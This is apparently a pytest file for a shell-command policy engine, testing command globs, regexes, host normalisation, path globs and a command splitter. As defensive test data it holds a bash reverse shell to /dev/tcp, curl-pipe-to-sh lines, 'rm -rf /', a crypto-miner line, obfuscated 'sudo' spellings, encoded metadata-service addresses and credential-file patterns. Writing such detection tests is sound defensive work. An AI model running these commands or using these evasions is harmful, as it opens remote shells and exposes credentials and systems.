"""Pattern semantics: command globs and regexes, host patterns, path globs, the splitter."""

from __future__ import annotations

import pytest

from corral.policy.patterns import (
    compile_command,
    compile_host,
    compile_path,
    compile_program,
    compile_regex,
    has_shell_operator,
    normalize_host,
)
from corral.policy.shellsplit import analyze


def matches(pattern, line: str) -> bool:
    first = line.split(" ", 1)[0]
    prog = first.rsplit("/", 1)[-1]
    base = line if prog == first else prog + line[len(first) :]
    return pattern.matches(base, line)


@pytest.mark.parametrize(
    ("pattern", "line", "expected"),
    [
        # a bare word is a program with any arguments
        ("ls", "ls", True),
        ("ls", "ls -la /workspace", True),
        ("ls", "lsblk", False),
        ("ls", "/bin/ls -l", True),
        # several words without * are an exact line
        ("git status", "git status", True),
        ("git status", "git status -s", False),
        ("git status", "git statusx", False),
        # * crosses spaces
        ("python*", "python3 -c print(1)", True),
        ("python*", "python", True),
        ("python*", "pythonista", True),
        ("python*", "ipython", False),
        ("git push*", "git push origin main", True),
        ("git push*", "git pushx", True),
        ("git push*", "git pull", False),
        ("cat *.env", "cat /workspace/.env", True),
        ("cat *.env", "cat a b.env", True),
        # a standalone * is zero or more words
        ("pip install *", "pip install", True),
        ("pip install *", "pip install -r req.txt", True),
        ("pip install *", "pip installer", False),
        ("ssh * -R *", "ssh -R 9000:localhost:22 x@y", True),
        ("ssh * -R *", "ssh -p 22 -R 1:h:2 x", True),
        ("ssh * -R *", "ssh x-R", False),
        ("ssh * -R *", "ssh -L 1:h:2 x", False),
        ("* --force", "git push --force", True),
        ("* --force", "--force", True),
        ("* --force", "git push --forceful", False),
        ("*", "anything at all", True),
        # escaped star is literal
        ("echo \\*", "echo *", True),
        ("echo \\*", "echo x", False),
        # a program with a path matches the full path only
        ("/usr/bin/python3 *", "/usr/bin/python3 x.py", True),
        ("/usr/bin/python3 *", "python3 x.py", False),
    ],
)
def test_glob_semantics(pattern: str, line: str, expected: bool) -> None:
    assert matches(compile_command(pattern), line) is expected


def test_pattern_whitespace_is_collapsed() -> None:
    assert matches(compile_command("  git   status  "), "git status")
    assert compile_command("git   status").text == "git status"


def test_program_rules() -> None:
    assert matches(compile_program("git"), "git anything")
    assert not matches(compile_program("git"), "gitk")
    assert matches(compile_program("git", "push *"), "git push origin")
    assert matches(compile_program("git", "push *"), "git push")
    assert not matches(compile_program("git", "push *"), "git pull")
    assert matches(compile_program("python*", "-m pip *"), "python3.11 -m pip install")
    # the program word's star stays inside the program name
    assert not matches(compile_program("python*", "-m pip *"), "python x -m pip install")
    assert matches(compile_program("python*"), "python3 -c 1")
    assert matches(compile_program("git", "status"), "git status")
    assert not matches(compile_program("git", "status"), "git status -s")
    with pytest.raises(ValueError, match="one word"):
        compile_program("git push")


@pytest.mark.parametrize(
    ("text", "prefix", "level"),
    [
        ("ls", 2, 1),
        ("ls*", 2, 0),
        ("git status", 10, 2),
        ("git status *", 10, 1),
        ("git push*", 8, 1),
        ("* --force", 0, 0),
        ("*", 0, 0),
        ("ssh * -R *", 3, 1),
    ],
)
def test_glob_specificity(text: str, prefix: int, level: int) -> None:
    pattern = compile_command(text)
    assert (pattern.prefix_len, pattern.level) == (prefix, level)


@pytest.mark.parametrize(
    ("regex", "prefix", "level", "program"),
    [
        (r"^curl .*\| *sh$", 4, 1, "curl"),
        (r"^ssh\s(.*\s)?-R", 3, 1, "ssh"),
        (r"^ssh\b", 3, 1, "ssh"),
        (r"^python3?\b", 6, 0, None),
        (r"^(curl|wget)\s", 0, 0, None),
        (r"stratum\+tcp://", 0, 0, None),
        (r"^git push", 8, 1, "git"),
        (r"^rm$", 2, 1, "rm"),
    ],
)
def test_regex_specificity(regex: str, prefix: int, level: int, program: str | None) -> None:
    pattern = compile_regex(regex)
    assert (pattern.prefix_len, pattern.level, pattern.program) == (prefix, level, program)


def test_regex_is_searched() -> None:
    assert matches(compile_regex("stratum"), "xmrig -o stratum+tcp://x")
    assert not matches(compile_regex("^stratum"), "xmrig -o stratum+tcp://x")
    with pytest.raises(ValueError, match="invalid regular expression"):
        compile_regex("(")


@pytest.mark.parametrize(
    ("text", "regex", "expected"),
    [
        ("curl *| sh", False, True),
        ("* > /etc/*", False, True),
        ("a && b", False, True),
        ("ls", False, False),
        ("bash <(curl *)", False, False),
        ("$(curl *)", False, False),
        (r"^curl .*\| *sh$", True, True),
        (r"^rm\s(a|b)", True, False),
        (r"(?P<x>a)(?<=a)", True, False),
        (r"<\(\s*curl", True, False),
        (r";\s*rm", True, True),
    ],
)
def test_line_rule_detection(text: str, regex: bool, expected: bool) -> None:
    assert has_shell_operator(text, regex=regex) is expected


# ------------------------------------------------------------------------------- hosts


@pytest.mark.parametrize(
    ("host", "normal", "ip"),
    [
        ("PyPI.org.", "pypi.org", None),
        ("[::1]", "::1", "::1"),
        ("2852039166", "169.254.169.254", "169.254.169.254"),
        ("0xa9.0xfe.0xa9.0xfe", "169.254.169.254", "169.254.169.254"),
        ("0251.0376.0251.0376", "169.254.169.254", "169.254.169.254"),
        ("127.1", "127.0.0.1", "127.0.0.1"),
        ("::ffff:169.254.169.254", "169.254.169.254", "169.254.169.254"),
        ("fe80::1%eth0", "fe80::1", "fe80::1"),
        ("example.com:8080", "example.com", None),
        ("deadbeef", "deadbeef", None),
        ("1.2.3.4.5", "1.2.3.4.5", None),
    ],
)
def test_normalize_host(host: str, normal: str, ip: str | None) -> None:
    name, addr = normalize_host(host)
    assert name == normal
    assert (str(addr) if addr is not None else None) == ip


def test_host_patterns() -> None:
    suffix = compile_host("*.github.com")
    assert suffix.matches("api.github.com", None)
    assert not suffix.matches("github.com", None)
    assert not suffix.matches("evilgithub.com", None)
    cidr = compile_host("10.0.0.0/8")
    assert cidr.matches("10.2.3.4", normalize_host("10.2.3.4")[1])
    assert not cidr.matches("10.example", None)
    assert compile_host("*").matches("x", None)
    assert compile_host("1.2.3.4").names_exactly
    for bad in ("a b", "*.", "x.*.com", "ex*mple.com", "1.2.3.4/40", "host:80"):
        with pytest.raises(ValueError):
            compile_host(bad)


# ------------------------------------------------------------------------------- paths


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("/workspace/**", "/workspace", True),
        ("/workspace/**", "/workspace/a/b/c.py", True),
        ("/workspace/**", "/workspaces/x", False),
        ("/workspace/*.py", "/workspace/a.py", True),
        ("/workspace/*.py", "/workspace/sub/a.py", False),
        ("/workspace/**/*.py", "/workspace/a.py", True),
        ("/workspace/**/*.py", "/workspace/x/y/a.py", True),
        ("**/.ssh/**", "/root/.ssh/id_rsa", True),
        ("**/.ssh/**", "/root/.ssh", True),
        ("**/.ssh/**", "~/.ssh/id_rsa", True),
        ("**/.ssh/**", "/root/.sshx/id", False),
        (".env", "/workspace/.env", True),
        (".env", "/workspace/x.env", False),
        ("*.pem", "/a/b/server.pem", True),
        ("/tmp/?", "/tmp/a", True),
        ("/tmp/?", "/tmp/ab", False),
        ("/proc/*/environ", "/proc/self/environ", True),
    ],
)
def test_path_globs(pattern: str, path: str, expected: bool) -> None:
    assert compile_path(pattern).matches(path) is expected


# -------------------------------------------------------------------------- splitting


def commands(line: str) -> list[list[str]]:
    return [c.argv for c in analyze(line).commands]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls -la", [["ls", "-la"]]),
        ("curl http://x | sh", [["curl", "http://x"], ["sh"]]),
        ("a && b || c; d & e", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ("python3 -c 'print(1)'", [["python3", "-c", "print(1)"]]),
        ('echo "a | b" \\| c', [["echo", "a | b", "|", "c"]]),
        ("FOO=1 BAR=2 make test", [["make", "test"]]),
        ("echo $(whoami) `id`", [["echo", "$(whoami)", "`id`"], ["whoami"], ["id"]]),
        ("diff <(ls a) <(ls b)", [["diff", "<(ls a)", "<(ls b)"], ["ls", "a"], ["ls", "b"]]),
        ("for f in *.py; do ruff $f; done", [["ruff", "$f"]]),
        ("if true; then ls; else pwd; fi", [["true"], ["ls"], ["pwd"]]),
        ("f() { ls; }; f", [["ls"], ["f"]]),
        ("function g { ls; }", [["ls"]]),
        ("(( i++ )); echo ok", [["echo", "ok"]]),
        ("cat <<EOF | sh\nrm -rf /\nEOF\nls", [["cat"], ["sh"], ["ls"]]),
        ("cat <<-'X'\n\tsudo\n\tX\nls", [["cat"], ["ls"]]),
        ("$'\\x73udo' su", [["sudo", "su"]]),
        ("s'u'\"d\"o ls", [["sudo", "ls"]]),
        ("ls # comment | sh", [["ls"]]),
        ("ls \\\n -la", [["ls", "-la"]]),
        ("{ ls; pwd; }", [["ls"], ["pwd"]]),
        ("! grep x f", [["grep", "x", "f"]]),
    ],
)
def test_analyze_commands(line: str, expected: list[list[str]]) -> None:
    assert commands(line) == expected


def test_analyze_redirects_and_lines() -> None:
    a = analyze("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
    (cmd,) = a.commands
    assert cmd.argv == ["bash", "-i"]
    assert cmd.redirects == [(">&", "/dev/tcp/1.2.3.4/4444"), (">&", "1")]
    assert a.lines == ["bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]
    a = analyze("curl x | sh && ls")
    assert a.lines == ["curl x | sh", "curl x | sh && ls"]
    assert analyze("ls").lines == []
    assert analyze("echo 'x | y' | sh").lines == ["echo 'x | y' | sh"]


def test_analyze_incomplete_input() -> None:
    assert not analyze("echo 'unterminated").complete
    assert not analyze("echo $(ls").complete
    assert analyze("echo ok").complete
